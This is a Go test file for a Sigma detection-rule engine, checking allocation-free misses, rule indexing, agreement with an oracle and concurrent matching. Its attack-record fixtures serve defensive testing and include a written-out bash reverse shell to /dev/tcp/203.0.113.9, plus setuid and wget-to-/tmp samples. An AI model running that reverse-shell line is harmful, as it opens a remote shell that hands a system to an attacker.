package sigma

import (
	"fmt"
	"os"
	"sync"
	"testing"
)

// sources is a record with a log source of its own.
type sourced struct {
	flat
	source Logsource
}

func (s sourced) Logsource() Logsource { return s.source }

func TestAMissAllocatesNothing(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	var rec Record = sourced{
		flat{"Image": "/usr/bin/ls", "CommandLine": "ls -la /home/ü", "ParentImage": "/usr/bin/bash", "User": "u"},
		Logsource{"linux", "process_creation", ""},
	}
	dst := make([]*Rule, 0, 8)
	if hits := set.Match(rec, dst); len(hits) != 0 {
		t.Fatalf("not a miss: %v", keys(hits))
	}
	if n := testing.AllocsPerRun(200, func() { dst = set.Match(rec, dst[:0]) }); n != 0 {
		t.Errorf("%v allocations on a miss", n)
	}
}

func TestRulesWaitForTheirLiterals(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	stats := set.Stats()
	if stats.Always*20 > stats.Rules {
		t.Errorf("%d of %d rules are evaluated for every record", stats.Always, stats.Rules)
	}
	if stats.Literals < 1000 || stats.States < stats.Literals || stats.Bytes == 0 {
		t.Errorf("stats %+v", stats)
	}
}

func TestCompiledCorpusAgreesWithTheOracle(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	for _, rec := range attackRecords {
		got, want := keys(set.Match(rec, nil)), keys(oracle(set, rec))
		if fmt.Sprint(got) != fmt.Sprint(want) || len(want) == 0 {
			t.Errorf("%v:\nmatched %v\nwant    %v", rec, got, want)
		}
	}
}

// attackRecords match public rules.
var attackRecords = []Record{
	sourced{flat{"Image": "/usr/bin/base64", "CommandLine": "base64 -d x"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/bin/bash", "CommandLine": "bash -i >& /dev/tcp/203.0.113.9/80 0>&1"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/usr/bin/crontab", "CommandLine": "crontab -l"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/usr/bin/wget", "TargetFilename": "/tmp/x"}, Logsource{"linux", "file_event", ""}},
	sourced{flat{"Image": "/bin/bash", "DestinationIp": "203.0.113.9"}, Logsource{"linux", "network_connection", ""}},
	sourced{flat{"type": "EXECVE", "a0": "chmod", "a1": "+s", "a2": "x"}, Logsource{"linux", "", "auditd"}},
}

func TestConcurrentMatches(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	var want []int
	for _, rec := range attackRecords {
		want = append(want, len(oracle(set, rec)))
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 2000 {
				n := i % len(attackRecords)
				if got := len(set.Match(attackRecords[n], nil)); got != want[n] {
					t.Errorf("%v: %d matches, want %d", attackRecords[n], got, want[n])
				}
			}
		}()
	}
	wg.Wait()
}

func TestForeignLogsourcesStayBounded(t *testing.T) {
	set := one(t, rule("s:\n  a: b\ncondition: s"))
	for i := range 10 * maxChosen {
		set.Match(sourced{flat{"a": "b"}, Logsource{Product: fmt.Sprint(i)}}, nil)
	}
	if n := len(*set.chosen.Load()); n > maxChosen {
		t.Errorf("%d log sources remembered", n)
	}
	if len(set.Match(flat{"a": "b"}, nil)) != 1 {
		t.Error("no match once the memory is full")
	}
}
